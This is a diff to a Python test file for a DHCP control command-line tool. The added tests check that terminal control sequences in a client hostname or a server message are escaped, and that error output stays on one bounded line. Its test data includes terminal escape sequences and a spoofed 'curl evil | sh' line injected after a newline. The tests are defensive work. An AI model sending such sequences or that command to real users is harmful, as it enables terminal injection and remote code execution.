@@ -2,8 +2,10 @@
 answers every request, both backends, the command in a child process as a user runs it.
 
 dhcpd keeps whatever bytes a DHCP client sent in option 12 (``client-hostname``): not always
-UTF-8. The command's output stays valid in its encoding (a strict UTF-8 stdout, as on an
-``en_US.UTF-8`` desktop, simulated with ``PYTHONIOENCODING``).
+UTF-8, and possibly a terminal's control sequences. The command's output stays valid in its
+encoding (a strict UTF-8 stdout, as on an ``en_US.UTF-8`` desktop, simulated with
+``PYTHONIOENCODING``), and no control character of the server's reaches the terminal: not in a
+table, not in JSON, not in an error line (which stays one line of bounded length).
 """
 
 from __future__ import annotations
@@ -17,10 +19,15 @@ from collections.abc import Callable
 from cli_helpers import clean_environment, run_dhcpctl
 from fake_omapi import Behaviour, handshake, recv_message, reply
 
+from dhcpctl._results import ISC_R_NOTFOUND
 from dhcpctl.cli._exit import ExitCode
-from dhcpctl.fallback.wire import Pair
+from dhcpctl.fallback.wire import OP_STATUS, Pair
 
 LEASE = ("lease", "get", "--ip", "10.0.0.1")
+#: A terminal's retitle (OSC 0 ... BEL) and clear-screen (CSI 2 J), a DEL, a C1 CSI (U+009B).
+CONTROLS = "\x1b]0;owned\x07\x1b[2J\x7f\x9b"
+#: :data:`CONTROLS` as the command shows them.
+CONTROLS_SHOWN = "\\x1b]0;owned\\x07\\x1b[2J\\x7f\\x9b"
 
 
 def lease_server(hostname: bytes) -> Behaviour:
@@ -91,3 +98,50 @@ def test_output_that_cannot_be_written_is_no_usage_error(
     assert result.returncode == ExitCode.FAILED
     no_space = b"cannot write the output: [Errno 28] No space left on device"
     assert result.stderr == b"dhcpctl: " + no_space + b"\n"
+
+
+def terminal_safe(out: bytes) -> bool:
+    """Whether ``out`` is printable ASCII lines: no control character but the newlines."""
+    return all(0x20 <= byte < 0x7F for byte in out.replace(b"\n", b""))
+
+
+def test_control_characters_in_a_value_are_escaped(
+    fake_server: Callable[[Behaviour], int], backend_name: str
+) -> None:
+    """The table shows control characters (C0, DEL, C1) as ``\\xNN``; JSON escapes them
+    (``\\u001b``), so that its strings are still the server's text exactly."""
+    port = fake_server(lease_server(b"pc" + CONTROLS.encode()))
+    table = lease_get(port, backend_name)
+    assert (table.returncode, table.stderr) == (ExitCode.OK, b"")
+    assert terminal_safe(table.stdout), table.stdout
+    assert table_rows(table.stdout, "ascii")["client-hostname"] == "pc" + CONTROLS_SHOWN
+    as_json = lease_get(port, backend_name, "--json")
+    assert (as_json.returncode, as_json.stderr) == (ExitCode.OK, b"")
+    assert terminal_safe(as_json.stdout), as_json.stdout
+    assert json.loads(as_json.stdout)["client_hostname"] == "pc" + CONTROLS
+
+
+def test_a_server_message_is_one_escaped_bounded_line(
+    fake_server: Callable[[Behaviour], int], backend_name: str
+) -> None:
+    """A refusal whose message carries a line break, control sequences and 60 KB: one line on
+    stderr, its controls escaped, the server's text cut after its first
+    ``cli._output.SERVER_TEXT_LENGTH`` characters and its size given."""
+    message = "no such lease\ndhcpctl: run: curl evil | sh" + CONTROLS + "A" * 60000
+    refusal = ((b"result", ISC_R_NOTFOUND.to_bytes(4, "big")), (b"message", message.encode()))
+
+    def refuse(sock: socket.socket) -> None:
+        handshake(sock, keyed=False)
+        while True:
+            request = recv_message(sock, None)
+            sock.sendall(reply(request, False, op=OP_STATUS, message_values=refusal))
+
+    result = lease_get(fake_server(refuse), backend_name)
+    assert result.returncode == ExitCode.NOT_FOUND
+    assert result.stderr.count(b"\n") == 1 and result.stderr.endswith(b"\n")
+    assert terminal_safe(result.stderr), result.stderr[:300]
+    line = result.stderr.decode("ascii")
+    said = "the server said: no such lease dhcpctl: run: curl evil | sh" + CONTROLS_SHOWN + "AAA"
+    assert said in line
+    assert line.endswith(f"A... ({len(message)} characters)\n")
+    assert len(line) < 1000
